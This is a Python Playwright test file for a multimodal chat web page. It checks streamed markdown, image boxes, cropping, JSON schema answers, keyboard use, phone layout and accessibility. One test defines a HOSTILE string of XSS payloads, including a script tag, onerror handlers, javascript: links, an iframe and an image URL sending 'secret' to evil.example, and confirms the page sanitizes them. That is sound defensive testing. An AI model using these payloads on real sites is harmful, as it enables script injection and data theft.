"""The web page as a person uses it: questions, answers, boxes, hostile text, keyboard, looks."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.web import PHONE, ROOT, Opened, chromium, opened, saying

pytestmark = [pytest.mark.browser, pytest.mark.slow]

AXE = ROOT / "web" / "node_modules" / "axe-core" / "axe.min.js"
ANSWER = """## Findings

The receipt has **four** lines.

| Item | Price |
|---|--:|
| Toast | 6.50 |

The sum is $\\sum_i p_i$, and

$$E = mc^2$$

- [x] done

```python
total = 20.02
```

The <ref>shop</ref><box>(180,60),(840,130)</box> stands above
the <ref>total</ref><box>(60,680),(930,740)</box>.
"""
HOSTILE = """<img src=x onerror="window.hit=1"><script>window.hit=2</script>

<iframe src="https://evil.example/"></iframe><svg onload="window.hit=3"></svg>

![pixel](https://evil.example/pixel.png?q=secret) [click](javascript:window.hit=4)

$\\href{javascript:window.hit=5}{x}$ $\\includegraphics{https://evil.example/y.png}$
$\\htmlStyle{color:red}{z}$

<table><tr><td onmouseover="window.hit=6"><img src=x onerror="window.hit=7">cell</td></tr></table>

<ref><img src=x onerror="window.hit=8"></ref><box>(1,2),(300,400)</box>
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """One browser for all tests of this file."""
    with chromium() as found:
        yield found


def test_picture_and_streamed_answer(browser: Any, demo: Path) -> None:
    """A picture is attached, its price is shown, the answer streams and is laid out."""
    with opened(browser, saying(ANSWER, pause_s=0.01)) as o:
        o.attach(demo / "receipt.png")
        o.page.locator(".meter-text").wait_for()
        meter = o.page.get_by_role("meter", name="Tokens of the next question")
        assert meter.get_attribute("aria-valuemax") == "4096"
        assert 0 < int(meter.get_attribute("aria-valuenow") or 0) < 4096
        o.ask("What is on the receipt?")
        o.page.locator(".answer[aria-busy=true] .level-2").wait_for()  # before it is complete
        answer = o.answered()
        assert answer.locator(".level-2").inner_text() == "Findings"
        assert answer.locator("td").all_inner_texts() == ["Toast", "6.50"]
        assert answer.locator("pre").inner_text() == "total = 20.02"
        answer.locator(".katex").nth(1).wait_for()
        assert answer.locator("dl.readout dt").all_inner_texts()[:2] == ["First token", "Speed"]
        conversation = o.model.planned[-1]["messages"]
        assert [type(p).__name__ for p in conversation.messages[-1].parts] == [
            "ImagePart",
            "TextPart",
        ]
        o.shot("answer-light")
        o.page.emulate_media(color_scheme="dark")
        o.until("document.documentElement.dataset.theme === 'dark'")
        o.shot("answer-dark")


def test_boxes_stand_where_the_answer_says(browser: Any, demo: Path) -> None:
    """Corners are thousandths of the picture; words and boxes light up together."""
    with opened(browser, saying(ANSWER)) as o:
        o.attach(demo / "receipt.png")
        o.ask("Where is the total?")
        answer = o.answered()
        marks = answer.locator(".mark")
        assert marks.count() == 2
        # Both in one look: the page may be scrolling.
        frame, total = answer.evaluate(
            """(found) => [
                found.querySelector(".figure-frame img"), found.querySelectorAll(".mark")[1],
            ].map((part) => part.getBoundingClientRect().toJSON())"""
        )
        assert abs((total["x"] - frame["x"]) / frame["width"] - 0.06) < 0.01
        assert abs((total["y"] - frame["y"]) / frame["height"] - 0.68) < 0.01
        assert abs(total["width"] / frame["width"] - 0.87) < 0.01
        answer.get_by_role("button", name="total", exact=True).hover()
        assert "lit" in (marks.nth(1).get_attribute("class") or "")
        assert "lit" not in (marks.nth(0).get_attribute("class") or "")
        marks.nth(0).hover()
        assert "lit" in (
            answer.get_by_role("button", name="shop", exact=True).get_attribute("class") or ""
        )
        answer.locator(".figure-open").click()
        o.page.locator(".viewer .mark").nth(1).wait_for()
        o.shot("boxes")


def test_part_of_a_picture_becomes_a_picture(browser: Any, demo: Path) -> None:
    """A rectangle drawn in the viewer is cut out at full resolution and attached."""
    with opened(browser) as o:
        o.attach(demo / "receipt.png")
        o.page.get_by_role("button", name="Show receipt.png").click()
        o.page.get_by_role("button", name="Ask about a part").click()
        area = o.page.locator(".cutter").bounding_box()
        assert area is not None
        o.page.mouse.move(area["x"] + 0.1 * area["width"], area["y"] + 40)
        o.page.mouse.down()
        o.page.mouse.move(area["x"] + 0.6 * area["width"], area["y"] + 240, steps=4)
        o.page.mouse.up()
        o.page.locator(".draft-chip", has_text="part of receipt.png").wait_for()
        o.page.get_by_role("button", name="Show part of receipt.png").click()
        hint = o.page.locator(".viewer-hint").inner_text()
        assert abs(int(hint.split()[0]) - 180) <= 2  # half of 360 pixels


def test_hostile_answer_does_nothing(browser: Any, demo: Path) -> None:
    """No script, no request, no element of the answer's choosing; and it is all readable."""
    with opened(browser, saying(HOSTILE)) as o:
        o.attach(demo / "receipt.png")
        o.ask("?")
        answer = o.answered()
        answer.locator(".katex").first.wait_for()
        o.page.wait_for_timeout(300)
        assert o.page.evaluate("window.hit") is None
        text = answer.locator(".markdown")
        assert text.locator("script, iframe, img, object, embed, style, form").count() == 0
        links = text.locator("a").evaluate_all("all => all.map(a => [a.protocol, a.rel])")
        assert links
        assert all(link == ["https:", "noopener noreferrer nofollow"] for link in links)
        assert "<script>window.hit=2</script>" in text.inner_text()
        handlers = "e => e.getAttributeNames().filter(n => n.startsWith('on')).length"
        assert text.locator("*").evaluate_all(f"all => all.map({handlers}).some(Boolean)") is False


def test_json_answer(browser: Any, demo: Path) -> None:
    """A schema goes along, and the answer is shown as fields and rows; CSV can be copied."""
    value = {
        "shop": "Cafe",
        "items": [{"name": "Toast", "price": 6.5}, {"name": "Water", "price": 3}],
        "total": {"value": 20.02, "box": [60, 680, 930, 740]},
    }
    with opened(browser, saying(json.dumps(value))) as o:
        o.attach(demo / "receipt.png")
        o.page.get_by_role("button", name="Answer as JSON").click()
        o.page.get_by_role("button", name="receipt", exact=True).click()
        o.page.get_by_role("button", name="Add a field", exact=True).click()
        o.page.get_by_label("Name of field 5").fill("table")
        o.shot("schema")
        o.page.get_by_role("button", name="Use this schema").click()
        o.ask("Read it")
        answer = o.answered()
        sent = o.model.planned[-1]["response_format"]["json_schema"]
        assert sent["name"] == "receipt"
        assert list(sent["schema"]["properties"]) == ["shop", "date", "items", "total", "table"]
        assert answer.locator(".json-tree dt").first.inner_text() == "shop"
        assert answer.locator(".mark").count() == 1
        answer.get_by_role("button", name="Table", exact=True).click()
        assert answer.locator("tbody tr").count() == 2
        o.shot("json")
        answer.get_by_role("button", name="Copy or save as").click()
        o.page.get_by_role("menuitem", name="Copy CSV").click()
        o.page.locator(".toast", has_text="Copied.").wait_for()
        copied = o.page.evaluate("navigator.clipboard.readText()")
        assert copied.splitlines()[0] == (
            "shop,items.0.name,items.0.price,items.1.name,items.1.price,total.value,"
            "total.box.0,total.box.1,total.box.2,total.box.3"
        )


def test_broken_schema_is_not_used(browser: Any) -> None:
    """The editor says what is wrong and stays open."""
    with opened(browser) as o:
        o.page.get_by_role("button", name="Answer as JSON").click()
        o.page.get_by_role("button", name="JSON schema", exact=True).click()
        o.page.get_by_label("JSON schema", exact=True).last.fill("{")
        o.page.get_by_role("button", name="Use this schema").click()
        assert o.page.get_by_role("alert").inner_text()
        o.page.keyboard.press("Escape")
        o.page.locator("dialog").wait_for(state="detached")


def test_keyboard_alone(browser: Any) -> None:
    """Everything that matters can be reached without a pointer."""
    with opened(browser, saying("Fine.")) as o:
        o.page.locator(".model .dot").wait_for()
        o.page.keyboard.press("/")
        o.page.keyboard.type("Hello")
        o.page.keyboard.press("Shift+Enter")
        o.page.keyboard.type("there")
        o.page.keyboard.press("Enter")
        o.answered()
        assert o.page.locator(".question-text").inner_text() == "Hello\nthere"
        o.page.keyboard.press("Alt+t")
        assert o.page.locator(".thinking-value").inner_text() == "2,048 tokens"
        o.page.locator(".messages").focus()
        o.page.keyboard.press("?")
        o.page.get_by_role("dialog", name="Keyboard").wait_for()
        o.page.keyboard.press("Escape")
        o.page.locator("dialog").wait_for(state="detached")
        menu = o.page.get_by_role("button", name="Copy or save as")
        menu.focus()
        o.page.keyboard.press("Enter")
        focused = "document.activeElement.textContent"
        o.until(f"{focused} === 'Copy Markdown'")
        o.page.keyboard.press("ArrowDown")
        o.until(f"{focused} === 'Copy JSON'")
        o.page.keyboard.press("Escape")
        o.until("document.activeElement.ariaLabel === 'Copy or save as'")


def test_phone(browser: Any, demo: Path) -> None:
    """Nothing is wider than the screen; the list and the viewer open over the conversation."""
    context = {"has_touch": True, "is_mobile": True}
    with opened(browser, saying(ANSWER), view=PHONE, context=context) as o:
        o.attach(demo / "receipt.png")
        o.ask("What is it?")
        o.answered()
        assert o.page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
        o.shot("phone")
        o.page.locator(".figure-open").click()
        box = o.page.locator(".viewer").bounding_box()
        assert box is not None
        assert box["width"] == PHONE["width"]
        o.page.get_by_role("button", name="Close the viewer").click()
        o.page.get_by_role("button", name="Conversations", exact=True).click()
        o.page.get_by_role("button", name="What is it?", exact=True).click()
        assert o.page.locator(".answer").count() == 1
        o.shot("phone-list")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_accessible(browser: Any, demo: Path, scheme: str) -> None:
    """axe finds nothing to complain about in any state of the page."""
    if not AXE.is_file():
        pytest.skip("axe-core is not installed; run npm ci in web/")
    context = {"color_scheme": scheme, "reduced_motion": "reduce"}
    with opened(browser, saying(ANSWER + "\n\nSee page 2 at 0:01."), context=context) as o:
        o.page.locator(".model .dot").wait_for()
        check(o, "empty")
        o.attach(demo / "clip.mp4", demo / "report.pdf", demo / "odd-1.jpg", demo / "odd-2.jpg")
        o.page.get_by_role("button", name="Settings of clip.mp4").click()
        check(o, "draft of a video")
        o.page.get_by_role("button", name="Settings of report.pdf").click()
        check(o, "draft of a document")
        o.page.get_by_role("button", name="Compare", exact=True).click()
        check(o, "comparison")
        o.page.keyboard.press("Escape")
        o.ask("What is it?")
        o.answered()
        o.page.locator(".figure-open").first.click()
        check(o, "answer and viewer")
        o.page.get_by_role("button", name="Copy or save as").click()
        check(o, "menu")
        o.page.keyboard.press("Escape")
        for name in ("Settings", "Keyboard", "Answer as JSON", "Use the camera"):
            o.page.get_by_role("button", name=name, exact=True).click()
            check(o, name)
            o.page.keyboard.press("Escape")


def check(o: Opened, state: str) -> None:
    """Run axe on what is shown."""
    o.page.wait_for_timeout(250)
    if not o.page.evaluate("'axe' in window"):
        o.page.evaluate(AXE.read_text(encoding="utf-8"))
    found = o.page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    told = [
        f"{v['id']}: {v['help']}: {[n['html'][:160] for n in v['nodes']][:3]}"
        for v in found["violations"]
    ]
    assert not told, (state, told)
